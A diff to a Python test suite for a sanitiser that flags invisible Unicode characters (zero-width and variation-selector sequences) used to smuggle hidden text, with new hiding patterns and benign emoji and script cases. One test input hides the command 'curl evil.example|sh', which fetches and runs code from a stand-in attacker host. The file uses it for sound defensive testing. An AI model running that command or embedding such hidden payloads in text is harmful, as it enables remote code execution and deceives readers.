@@ -88,14 +88,15 @@ def test_bits_without_width_hide_no_text(bits: str) -> None:
     [
         "".join(f"\u200b{chr(0xE0100 + b)}" for b in b"curl evil.example|sh"),
         "".join("\ufe00" + "\u200b\u2060"[b >> i & 1] for b in b"curl" for i in range(8)),
+        "".join("\ufe0f" + "\u200e\u200f"[b % 2] + "\u200c\u200d"[b >> 1 & 1] for b in b"curl") * 4,
         "".join("\u200d\u200c\ufe0f"[b % 3] + chr(0xE0100 + b) for b in b"curl"),
     ],
 )
 def test_characters_that_nobody_sees_hide_no_text_whatever_their_kinds(hidden: str) -> None:
     text = f"A{hidden}B"
     assert not is_safe(text)
-    assert safe_text(text).count(SIGN) >= len(hidden) - 2
-    assert quoted(text, 1000).count(SIGN) >= len(hidden) - 2
+    assert safe_text(text).count(SIGN) >= len(hidden) - 3
+    assert quoted(text, 1000).count(SIGN) >= len(hidden) - 3
     assert json.loads(escape_json(json.dumps(text, ensure_ascii=False))) == text
 
 
@@ -105,6 +106,7 @@ def test_characters_that_nobody_sees_hide_no_text_whatever_their_kinds(hidden: s
         "\U0001f3f3\ufe0f\u200d\U0001f308",  # flag, VS16, joiner, rainbow
         "\u2764\ufe0f\u200d\U0001f525 \U0001f441\ufe0f\u200d\U0001f5e8\ufe0f",
         "\U0001f9d1\U0001f3fd\u200d\u2764\ufe0f\u200d\U0001f48b\u200d\U0001f9d1\U0001f3fb",
+        "\u2764\ufe0f\u200f\u200e \u2764\ufe0f\u200c\u200f\u05d0 \u260e\ufe0e\u061c\u200f\u0627",
         "1\ufe0f\u20e3 \U0001f1e9\U0001f1ea",  # a keycap and the flag of a country
         "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",  # Persian
         "\u0915\u094d\u200d\u0937 \u0d28\u0d4d\u200d \u0dc1\u0dca\u200d\u0dbb\u0dd3",  # Indic
@@ -187,6 +189,10 @@ def test_a_flag_whose_pieces_arrive_one_by_one_reaches_the_terminal_whole(
         ("x\ufe00\ufe01\ufe02y", f"x\ufe00{SIGN}{SIGN}y"),
         ("x\u200b\u200c\u200by", f"x\u200b\u200c{SIGN}y"),
         ("x\u200b\U000e0163\u200by", f"x\u200b\U000e0163{SIGN}y"),
+        ("x\ufe0f\u200f\u200e\u200fy", f"x\ufe0f\u200f\u200e{SIGN}y"),
+        ("x\u200b\ufe0f\u200f\u200ey", f"x\u200b\ufe0f{SIGN}{SIGN}y"),
+        ("x\ufe0f\u200f\u200by", f"x\ufe0f\u200f{SIGN}y"),
+        ("x\u200b\u200c\n\u200b", "x\u200b\u200c\n\u200b"),
     ],
 )
 def test_what_hides_a_text_is_seen_though_it_arrives_one_by_one(
